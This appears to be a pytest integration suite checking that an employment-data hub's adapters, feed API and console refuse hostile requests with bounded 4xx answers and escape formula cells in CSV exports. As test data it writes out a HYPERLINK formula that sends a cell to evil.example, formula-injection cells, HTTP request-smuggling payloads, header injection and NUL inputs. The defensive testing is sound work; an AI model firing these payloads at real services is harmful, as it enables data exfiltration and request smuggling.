"""Hostile requests are bounded before they cost anything and answered with a 4xx that names the rule.

Every service on the real stack: the two adapters (JSON and CSV), the shared view, the feed API and the
console. Limits are made small here (a 2 MiB body, a 4 MiB file, 5 rows a file) so the tests stay fast;
the defaults are in ``infra.config`` and the README's "Limits".
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import uuid
from collections.abc import AsyncIterator, MutableMapping
from dataclasses import dataclass
from datetime import date
from typing import Any

import asyncpg
import httpx
import orjson
import pytest
import pytest_asyncio
import uvicorn
from fastapi import FastAPI
from fastapi.testclient import TestClient
from starlette import types as asgi
from uvicorn.protocols.http.httptools_impl import HttpToolsProtocol

from consumers.agreements import add_agreement
from consumers.catchup import end_offsets, run_until
from consumers.feed.api import create_feed_app
from consumers.feed.builder import build_month
from consumers.feed.delivery import to_csv
from consumers.feed.projection import FeedProjection
from consumers.runtime import ConsumerRuntime
from consumers.shared_view.api import build_app as shared_view_app
from domain.calendar import YearMonth
from domain.consent import Scope
from infra.auth import OrgKind, Role, add_client
from infra.codecs.csv_write import write_csv
from infra.config import Settings
from infra.crypto import KeyStore, seal
from infra.http import BodyLimit, server
from infra.topics import ensure_topics
from producers.adapters.app import employment_app
from producers.adapters.serve import running
from producers.adapters.sites import add_sites
from producers.publish import publish_submissions
from producers.submission import to_event
from tests import factories
from tests.browser.console_server import RunningConsole
from tests.helpers import free_port
from tests.integration.test_hostile_consumers import _publish_raw, _raw

MiB = 1024 * 1024
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@dataclass
class Limited:
    url: str
    app: FastAPI
    settings: Settings
    office: str  # a publishing token of office 1301
    reader: str  # a reading token of authority 131041


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def limited(pool: asyncpg.Pool, settings: Settings) -> AsyncIterator[Limited]:
    own = settings.model_copy(
        update={
            "topic_namespace": f"l{uuid.uuid4().hex[:10]}",
            "max_body_bytes": 2 * MiB,
            "max_file_bytes": 4 * MiB,
            "max_file_rows": 5,
        }
    )
    await ensure_topics(own)
    async with pool.acquire() as conn:
        await add_sites(conn, [(factories.SITE, factories.OFFICE, "新宿")])
        _, office = await add_client(
            conn, name="hostile office", org_kind=OrgKind.OFFICE, org_code=factories.OFFICE,
            roles=frozenset({Role.PUBLISH}),
        )  # fmt: skip
        _, reader = await add_client(
            conn, name="hostile reader", org_kind=OrgKind.AUTHORITY, org_code=factories.AUTHORITY,
            roles=frozenset({Role.READ}),
        )  # fmt: skip
    app = employment_app(own)
    async with running(app, "127.0.0.1", free_port()) as url:
        yield Limited(url, app, own, office, reader)


def _client(limited: Limited, token: str | None = None) -> httpx.AsyncClient:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return httpx.AsyncClient(base_url=limited.url, headers=headers, timeout=60)


# --- bounded answers ---------------------------------------------------------------------------------


async def test_an_oversized_value_is_not_echoed_in_the_422(limited: Limited) -> None:
    huge = "f" * 1_000_000
    async with _client(limited, limited.office) as http:
        response = await http.post("/v1/registration", json=factories.registration(huge).data)
        assert response.status_code == 422
        assert len(response.content) < 5_000, len(response.content)
        error = next(e for e in response.json()["errors"] if e["field"] == "person_key")
        assert "value" not in error and "fff" not in response.text
        # 10,000 unknown fields: the first 100 errors and how many there were
        body = factories.registration(factories.person_key()).data | {f"x{i}": i for i in range(10_000)}
        response = await http.post("/v1/registration", json=body)
        assert response.status_code == 422 and len(response.content) < 50_000
        assert response.json()["errors_total"] == 10_000 and len(response.json()["errors"]) == 100


async def test_a_body_past_the_limit_is_413_naming_the_limit(limited: Limited) -> None:
    async with _client(limited, limited.office) as http:
        response = await http.post(
            "/v1/registration/batch",
            content=b"[" + b" " * (3 * MiB) + b"]",
            headers={"Content-Type": "application/json"},
        )
        assert response.status_code == 413
        assert "2097152 bytes" in response.json()["error"]

        async def stream() -> AsyncIterator[bytes]:  # no Content-Length: counted as it streams in
            for _ in range(3 * 16):
                yield b" " * 65536

        response = await http.post(
            "/v1/registration/batch", content=stream(), headers={"Content-Type": "application/json"}
        )
        assert response.status_code == 413
        files = {"file": ("big.csv", b"x" * (5 * MiB), "text/csv")}
        response = await http.post("/v1/registration/csv", files=files)
        assert response.status_code == 413 and "4194304 bytes" in response.json()["error"]


async def _behind_body_limit(parser: str, request: bytes) -> tuple[int, int]:
    """``request`` sent as raw bytes to an app behind ``BodyLimit`` (limits of 100 bytes) served by uvicorn
    with ``parser``: the answer's status and how many body bytes the app read."""
    read: list[int] = []

    async def reader(scope: asgi.Scope, receive: asgi.Receive, send: asgi.Send) -> None:
        more = True
        while more:
            message = await receive()
            read.append(len(message.get("body", b"")))
            more = message.get("more_body", False)
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b"read"})

    port = free_port()
    config = uvicorn.Config(
        BodyLimit(reader, body_bytes=100, file_bytes=100), host="127.0.0.1", port=port, http=parser,
        lifespan="off", log_config=None, access_log=False,
    )  # fmt: skip
    server = uvicorn.Server(config)
    server.capture_signals = contextlib.nullcontext  # type: ignore[method-assign,assignment]  # pytest owns signals
    task = asyncio.create_task(server.serve())
    try:
        while not server.started:
            assert not task.done(), "the server stopped before it started"
            await asyncio.sleep(0.02)
        reader_stream, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(request)
        await writer.drain()
        status_line = await reader_stream.readline()
        writer.close()
    finally:
        server.should_exit = True
        await task
    return int(status_line.split()[1]), sum(read)


@pytest.mark.parametrize("parser", ["h11", "httptools"])
async def test_a_chunked_body_behind_a_small_content_length_is_refused(parser: str) -> None:
    """Content-Length and Transfer-Encoding together (request smuggling): h11 frames such a body by its
    chunks and ignores the length, so a limit that trusted the declared length let any size through.
    Whichever parser uvicorn runs, the request is refused and the app never reads past the limit."""
    body = b"x" * 5000
    status, read = await _behind_body_limit(
        parser,
        b"POST /v1/registration HTTP/1.1\r\nHost: hub\r\nContent-Length: 5\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n" + b"%x\r\n" % len(body) + body + b"\r\n0\r\n\r\n",
    )
    assert status in (400, 413), (parser, status)
    assert read <= 100, f"{parser}: the app read {read} bytes past a limit of 100"


@pytest.mark.parametrize("parser", ["h11", "httptools"])
@pytest.mark.parametrize("lengths", [(5, 5000), (5000, 5)])
async def test_two_differing_content_lengths_are_refused_with_400(
    parser: str, lengths: tuple[int, int]
) -> None:
    """Two Content-Length headers that disagree (request smuggling: which one frames the body?) are
    refused with 400 whichever parser runs, and the app reads nothing past its limit."""
    body = b"x" * 5000
    status, read = await _behind_body_limit(
        parser,
        b"POST /v1/registration HTTP/1.1\r\nHost: hub\r\nContent-Length: %d\r\nContent-Length: %d\r\n\r\n"
        % lengths
        + body,
    )
    assert status == 400, (parser, lengths, status)
    assert read <= 100, f"{parser}: the app read {read} bytes past a limit of 100"


async def test_two_differing_content_lengths_to_the_adapter_are_400_and_accept_nothing(
    limited: Limited, pool: asyncpg.Pool
) -> None:
    """The same through the hub's own server and an adapter's lean route, with a valid credential and a
    valid event: 400, not 5xx, no value echoed, and nothing accepted."""
    person = factories.person_key()
    body = orjson.dumps(factories.registration(person).data)
    host, port = limited.url.removeprefix("http://").split(":")
    for first, second in ((5, len(body)), (len(body), len(body) + 1)):
        reader_stream, writer = await asyncio.open_connection(host, int(port))
        writer.write(
            b"POST /v1/registration HTTP/1.1\r\nHost: hub\r\nAuthorization: Bearer %s\r\n"
            b"Content-Type: application/json\r\nContent-Length: %d\r\nContent-Length: %d\r\n\r\n"
            % (limited.office.encode(), first, second)
            + body
        )
        await writer.drain()
        answer = await reader_stream.read(65536)
        writer.close()
        status = int(answer.split(b" ", 2)[1])
        assert status == 400, (first, second, answer[:200])
        assert person.encode() not in answer
    async with pool.acquire() as conn:
        assert await conn.fetchval("SELECT count(*) FROM outbox WHERE key = $1", person.encode()) == 0


def test_the_hub_serves_with_the_parser_that_refuses_ambiguous_framing() -> None:
    """httptools (llhttp) refuses Content-Length beside Transfer-Encoding itself; uvicorn's "auto" would
    quietly fall back to h11, which does not."""
    protocol = server(FastAPI(), "127.0.0.1", free_port()).config.http
    assert isinstance(protocol, type) and issubclass(protocol, HttpToolsProtocol), protocol


async def test_authentication_comes_before_the_body(limited: Limited) -> None:
    """An unauthenticated upload is refused without a byte of its body read."""
    for path, content_type in (
        ("/v1/registration/csv", b"multipart/form-data; boundary=x"),
        ("/v1/registration", b"application/json"),
    ):
        read, sent = await _call(limited.app, path, content_type)
        assert sent[0]["status"] == 401, (path, sent[0])
        assert not read, f"{path}: the body was read before the credential was checked"


async def _call(
    app: FastAPI, path: str, content_type: bytes
) -> tuple[list[int], list[MutableMapping[str, Any]]]:
    """POST ``path`` straight into the ASGI app with a body that counts how often it was read."""
    read: list[int] = []
    sent: list[MutableMapping[str, Any]] = []

    async def receive() -> MutableMapping[str, Any]:
        read.append(1)
        return {"type": "http.request", "body": b"--x\r\n" * 1000, "more_body": True}

    async def send(message: MutableMapping[str, Any]) -> None:
        sent.append(message)

    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST",
        "scheme": "http", "path": path, "raw_path": path.encode(), "query_string": b"", "root_path": "",
        "headers": [(b"content-type", content_type), (b"content-length", b"1000000")],
        "client": ("127.0.0.1", 1), "server": ("127.0.0.1", 80), "app": app, "state": {},
    }  # fmt: skip
    await app(scope, receive, send)
    return read, sent


async def test_csv_header_line_of_a_megabyte_and_ten_thousand_columns(limited: Limited) -> None:
    async with _client(limited, limited.office) as http:
        one_cell = b"a" * MiB + b"\r\n1,2\r\n"
        response = await http.post("/v1/registration/csv", files={"file": ("h.csv", one_cell, "text/csv")})
        assert response.status_code == 422, response.text[:300]
        assert "header (line 1)" in response.json()["errors"][0]["rule"]
        many = ",".join(f"col{i}" for i in range(10_000)).encode() + b"\r\n"
        response = await http.post("/v1/registration/csv", files={"file": ("c.csv", many, "text/csv")})
        assert response.status_code == 422 and len(response.content) < 5_000
        assert "at most 64" in response.json()["errors"][0]["rule"]
        unknown = ",".join(f"col{i}" for i in range(60)).encode() + b"\r\n"
        response = await http.post("/v1/registration/csv", files={"file": ("u.csv", unknown, "text/csv")})
        assert response.status_code == 422 and "; and 56 more." in response.json()["errors"][0]["rule"]


async def test_a_file_past_the_row_limit_stops_there_and_says_so(limited: Limited) -> None:
    rows = [factories.registration(factories.person_key()).data for _ in range(7)]
    content = write_csv("registration", rows)
    async with _client(limited, limited.office) as http:
        response = await http.post("/v1/registration/csv", files={"file": ("r.csv", content, "text/csv")})
    assert response.status_code == 202, response.text
    summary = response.json()
    assert summary["accepted"] == 5
    assert "at most 5 rows" in summary["file_error"]


# --- NUL and control characters: 4xx, never 5xx, never accepted ----------------------------------------


async def test_nul_and_int32_overflow_are_refused_at_the_adapter(limited: Limited) -> None:
    pk = factories.person_key()
    cases: list[tuple[str, dict[str, Any], str]] = [
        ("/v1/consent", factories.consent(pk, form_version="form\x00").data, "form_version"),
        ("/v1/consent", factories.consent(pk, version=2**31).data, "version"),
        (
            "/v1/registration",
            factories.registration(pk, personal={"name": "花子\x00", "birth_date": "1988-06-01"}).data,
            "personal.name",
        ),
        (
            "/v1/placement",
            factories.placement(pk, personal={"employer_name": "株式会社\x07"}).data,
            "personal.employer_name",
        ),
        ("/v1/placement", factories.placement(pk, attributes=["youth", "youth"]).data, "attributes"),
    ]
    async with _client(limited, limited.office) as http:
        for path, body, field in cases:
            response = await http.post(path, json=body)
            assert response.status_code == 422, (path, field, response.status_code)
            assert field in {e["field"] for e in response.json()["errors"]}, response.text


async def test_unserved_methods_are_405(limited: Limited) -> None:
    async with _client(limited, limited.office) as http:
        for method in ("GET", "PUT", "DELETE", "PATCH"):
            response = await http.request(method, "/v1/registration")
            assert response.status_code == 405, method


async def test_nul_in_search_bodies_and_query_numbers_is_a_4xx(limited: Limited, pool: asyncpg.Pool) -> None:
    auth = {"Authorization": f"Bearer {limited.reader}"}
    with TestClient(shared_view_app(limited.settings), raise_server_exceptions=False) as client:
        for body in (
            {"purpose": "share_registration", "name": "花\x00子"},
            {"purpose": "share_registration", "case_number": "\x00"},
        ):
            response = client.post("/persons/search", json=body, headers=auth)
            assert response.status_code == 422, response.text
        response = client.get(
            "/persons",
            params={"purpose": "disclose_placement", "limit": 45, "offset": "382970252378261422080"},
            headers=auth,
        )
        assert response.status_code == 422
        response = client.post("/persons/search", content=b"{" + b" " * (3 * MiB), headers=auth)
        assert response.status_code == 413


async def test_nul_in_feed_paths_is_a_4xx(limited: Limited) -> None:
    auth = {"Authorization": f"Bearer {limited.reader}"}
    with TestClient(create_feed_app(limited.settings), raise_server_exceptions=False) as client:
        for path in ("/feeds/131041%00/2025-05", "/feeds/131041/2025-05%00", "/feeds/%00%00/x"):
            response = client.get(path, headers=auth)
            assert 400 <= response.status_code < 500, (path, response.status_code)
        response = client.get("/feeds/131041/2025-05", params={"revision": 2**40}, headers=auth)
        assert response.status_code == 422
        for month in ("0001-05", "9999-05", "1999-12"):  # a month of the programme's years only
            response = client.get(f"/feeds/131041/{month}", headers=auth)
            assert response.status_code == 422, (month, response.status_code)


async def test_console_login_with_control_characters_is_refused(console: RunningConsole) -> None:
    async with httpx.AsyncClient(base_url=console.url) as http:
        for token, next_ in (("ith_ab\x00.cd", "/"), ("ith_\x00\x00", "/\x00"), ("x" * 100_000, "/\r\nX: y")):
            response = await http.post("/login", data={"token": token, "next": next_})
            assert response.status_code == 401, (token[:10], response.status_code)


async def test_unknown_fields_reach_operators_bounded_and_unnamed(
    limited: Limited, pool: asyncpg.Pool, console: RunningConsole
) -> None:
    """10,000 client-chosen field names in one request: the rejection register (shown on the console's
    adapters page) gets at most one answer's worth of rows, and none of them names what the client typed."""
    async with pool.acquire() as conn:
        before = await conn.fetchval("SELECT coalesce(max(id), 0) FROM adapter_rejections")
        _, operator = await add_client(
            conn, name="hostile operator", org_kind=OrgKind.OPERATOR, org_code="*",
            roles=frozenset({Role.OPERATE}),
        )  # fmt: skip
    names = {f"takahashi_hanako_{i}": i for i in range(10_000)}
    async with _client(limited, limited.office) as http:
        body = factories.registration(factories.person_key()).data | names
        assert (await http.post("/v1/registration", json=body)).status_code == 422
    async with pool.acquire() as conn:
        rules = [
            r["rule"] for r in await conn.fetch("SELECT rule FROM adapter_rejections WHERE id > $1", before)
        ]
    assert 0 < len(rules) <= 100, len(rules)
    assert not any("takahashi" in rule for rule in rules), sorted(set(rules))[:5]
    assert set(rules) == {"(unknown field): extra_forbidden"}
    async with httpx.AsyncClient(base_url=console.url, timeout=60) as http:
        assert (await http.post("/login", data={"token": operator})).status_code == 303
        adapters = await http.get("/adapters")
        assert adapters.status_code == 200 and "takahashi" not in adapters.text
        assert len(adapters.content) < 200_000, len(adapters.content)


# --- formula cells in every CSV export -----------------------------------------------------------------


def _cells(content: bytes, encoding: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode(encoding))) for cell in row]


async def test_formula_cells_are_escaped_in_every_csv_export(pool: asyncpg.Pool, limited: Limited) -> None:
    settings = limited.settings
    pk = factories.person_key()
    subs = [
        factories.registration(
            pk, registered_on="2019-07-01", personal={"name": "@SUM(1+1)*cmd", "birth_date": "1988-06-01"}
        ),
        factories.consent(pk, valid_from="2019-07-01"),
        factories.placement(pk, placed_on="2019-07-15", personal={"employer_name": FORMULA}),
    ]
    await publish_submissions(settings, pool, subs, origin="test-hostile")
    projection = FeedProjection(settings)
    runtime = ConsumerRuntime(
        projection, settings, pool, group_id=f"{projection.name}.{settings.topic_namespace}"
    )
    await run_until(runtime, pool, await end_offsets(settings, projection.topics), timeout_s=120)
    async with pool.acquire() as conn:  # A2: names and employers go out only under an agreement in force
        await add_agreement(
            conn, authority=factories.AUTHORITY, offices=[factories.OFFICE], sites=[factories.SITE],
            purposes=[Scope.DISCLOSE_PLACEMENT.value], valid_from=date(2015, 4, 1), valid_until=None,
            title="test", created_by="test",
        )  # fmt: skip
    month = YearMonth(2019, 7)
    await build_month(pool, settings, month, authorities=[factories.AUTHORITY])  # sent now: a backfill
    auth = {"Authorization": f"Bearer {limited.reader}"}
    with TestClient(create_feed_app(settings)) as client:
        for encoding in ("utf-8", "cp932"):
            response = client.get(
                f"/feeds/{factories.AUTHORITY}/2019-07",
                params={"format": "csv", "part": "individuals", "encoding": encoding},
                headers=auth,
            )
            assert response.status_code == 200, response.text
            cells = _cells(response.content, encoding)
            assert "'" + FORMULA in cells and "'@SUM(1+1)*cmd" in cells, encoding
            assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], encoding
    # The same function writes `hub feed export` files: any cell, any encoding.
    for encoding in ("utf-8", "cp932"):
        data, _ = to_csv([["-1", "+2.5", "-x", "\tx", "\rx", "=1+1", "@a", "+81-3"]], encoding)  # type: ignore[arg-type]
        assert _cells(data, encoding) == ["-1", "+2.5", "'-x", "'\tx", "'\rx", "'=1+1", "'@a", "'+81-3"]


async def test_a_rogue_personal_block_never_breaks_the_individual_list(
    pool: asyncpg.Pool, limited: Limited
) -> None:
    """A person's latest registration carries a sealed block that opens to a NUL in the name (a rogue
    producer holding the person's key): the authority's individual list still answers 200, without that
    person (withheld, as an unreadable block is) and with everyone else."""
    settings = limited.settings
    rogue, good = factories.person_key(), factories.person_key()
    subs = []
    for pk in (good, rogue):
        subs += [
            factories.registration(pk, registered_on="2019-08-01"),
            factories.consent(pk, valid_from="2019-08-01"),
            factories.placement(pk, placed_on="2019-08-15"),
        ]
    await publish_submissions(settings, pool, subs, origin="test-hostile")
    async with pool.acquire() as conn:
        key = (await KeyStore.from_settings(settings).keys_for(conn, [rogue]))[rogue]
    latest = to_event(factories.registration(rogue, registered_on="2019-08-02"), key)
    personal = seal(key, rogue, {"name": "Tanaka\x00Hanako", "birth_date": "1988-06-01"}).model_dump()
    await _publish_raw(settings, [_raw(settings, latest, personal=personal)])
    projection = FeedProjection(settings)
    runtime = ConsumerRuntime(
        projection, settings, pool, group_id=f"{projection.name}.{settings.topic_namespace}"
    )
    await run_until(runtime, pool, await end_offsets(settings, projection.topics), timeout_s=120)
    async with pool.acquire() as conn:
        await add_agreement(
            conn, authority=factories.AUTHORITY, offices=[factories.OFFICE], sites=[factories.SITE],
            purposes=[Scope.DISCLOSE_PLACEMENT.value], valid_from=date(2015, 4, 1), valid_until=None,
            title="rogue block", created_by="test",
        )  # fmt: skip
    await build_month(pool, settings, YearMonth(2019, 8), authorities=[factories.AUTHORITY])
    auth = {"Authorization": f"Bearer {limited.reader}"}
    with TestClient(create_feed_app(settings)) as client:
        response = client.get(
            f"/feeds/{factories.AUTHORITY}/2019-08",
            params={"format": "csv", "part": "individuals"},
            headers=auth,
        )
    assert response.status_code == 200, (response.status_code, response.text[:300])
    assert "Tanaka" not in response.text and "\x00" not in response.text
    assert len(response.text.strip().splitlines()) == 2, "the header and the other person"


# --- dates and times: one spelling, plausible years; 422 naming field and rule, never 5xx ------------------


async def test_forged_dates_and_times_are_422_at_the_adapter_naming_field_and_rule(limited: Limited) -> None:
    """pydantic's lax mode accepted a Unix time or a midnight datetime for a date, a Unix time for an
    instant, and any year for a birth date; each is a 422 now, naming the field and the rule, not the value."""
    pk = factories.person_key()
    registration = factories.registration(pk).data
    consent = factories.consent(pk).data
    cases: list[tuple[str, dict[str, Any], str]] = [
        ("/v1/registration", {**registration, "registered_on": "2026-04-01T00:00:00"}, "registered_on"),
        ("/v1/registration", {**registration, "registered_on": 1775001600}, "registered_on"),
        ("/v1/registration", {**registration, "registered_on": "0001-01-01"}, "registered_on"),
        (
            "/v1/registration",
            {**registration, "personal": {**registration["personal"], "birth_date": "9999-12-31"}},
            "personal.birth_date",
        ),
        (
            "/v1/registration",
            {**registration, "personal": {**registration["personal"], "birth_date": "0001-01-01"}},
            "personal.birth_date",
        ),
        ("/v1/consent", {**consent, "valid_from": "２０２６-04-01"}, "valid_from"),
        (
            "/v1/consent",
            {**consent, "captured": {**consent["captured"], "signed_at": 1775001600}},
            "captured.signed_at",
        ),
        (
            "/v1/consent",
            {**consent, "captured": {**consent["captured"], "signed_at": "2026-04-01T09:00:00"}},
            "captured.signed_at",
        ),
        ("/v1/placement", {**factories.placement(pk).data, "placed_on": 1775001600.0}, "placed_on"),
    ]
    async with _client(limited, limited.office) as http:
        for path, body, field in cases:
            response = await http.post(path, json=body)
            assert response.status_code == 422, (path, field, response.status_code)
            (error,) = response.json()["errors"]
            assert error["field"] == field, error
            assert (
                "YYYY-MM-DD" in error["rule"] or "RFC 3339" in error["rule"] or "must lie in" in error["rule"]
            )
            for value in ("1775001600", "9999-12-31", "0001-01-01", "２０２６", "2026-04-01T"):
                assert value not in response.text, (field, value)


async def test_forged_date_cells_are_refused_naming_line_column_and_rule(limited: Limited) -> None:
    """A batch file's date cells may be ISO or era dates (government files), but the year must be plausible:
    a birth year 0001 or 9999 and an event dated 1999 are refused row by row, the rest accepted."""
    rows = [factories.registration(factories.person_key()).data for _ in range(4)]
    rows[1]["personal"] = {**rows[1]["personal"], "birth_date": "0001-01-01"}
    rows[2]["personal"] = {**rows[2]["personal"], "birth_date": "9999-12-31"}
    rows[3]["registered_on"] = "1999-12-31"
    content = write_csv("registration", rows)
    async with _client(limited, limited.office) as http:
        response = await http.post("/v1/registration/csv", files={"file": ("r.csv", content, "text/csv")})
    assert response.status_code == 202, response.text
    body = response.json()
    assert (body["accepted"], body["rejected"]) == (1, 3), body
    by_line = {e["line"]: e["message"] for e in body["errors"]}
    assert by_line == {
        3: "line 3: 生年月日 (personal.birth_date): must lie in 1900-01-01 .. 2099-12-31",
        4: "line 4: 生年月日 (personal.birth_date): must lie in 1900-01-01 .. 2099-12-31",
        5: "line 5: 求職申込日 (registered_on): must lie in 2000-01-01 .. 2099-12-31",
    }


async def test_a_content_length_of_more_digits_than_python_reads_is_its_number_not_a_500(
    limited: Limited,
) -> None:
    """A Content-Length written with thousands of leading zeros is a small number to the HTTP parser
    (llhttp reads it digit by digit), but ``int()`` refuses a text of more than 4,300 digits (Python's
    limit on integer strings): the body limit's check of the declared length raised ValueError, a 500
    from the lean routes and every other route behind ``BodyLimit`` (review12 F3). It is the number it
    spells: within the limit, the request is served; past it, 413 (past 2^64, the parser's own 400)."""
    host, port = limited.url.removeprefix("http://").split(":")
    registration = orjson.dumps(factories.registration(factories.person_key()).data)
    for path, body, declared, expected in (
        (b"/v1/registration", registration, b"0" * 5000 + b"%d" % len(registration), 202),
        (b"/v1/registration/batch", b"{}", b"0" * 5000 + b"2", 422),
        (b"/v1/registration", registration, b"0" * 5000 + b"9" * 15, 413),
        (b"/v1/registration", registration, b"9" * 5000, 400),  # past what llhttp holds: its own 400
        (b"/v1/registration/nowhere", b"{}", b"0" * 5000 + b"2", 404),  # through the app's own stack
    ):
        reader_stream, writer = await asyncio.open_connection(host, int(port))
        writer.write(
            b"POST %s HTTP/1.1\r\nHost: hub\r\nAuthorization: Bearer %s\r\n"
            b"Content-Type: application/json\r\nContent-Length: %s\r\nConnection: close\r\n\r\n"
            % (path, limited.office.encode(), declared)
            + body
        )
        await writer.drain()
        answer = await reader_stream.read(65536)
        writer.close()
        assert int(answer.split(b" ", 2)[1]) == expected, (path, declared[-8:], answer[:300])
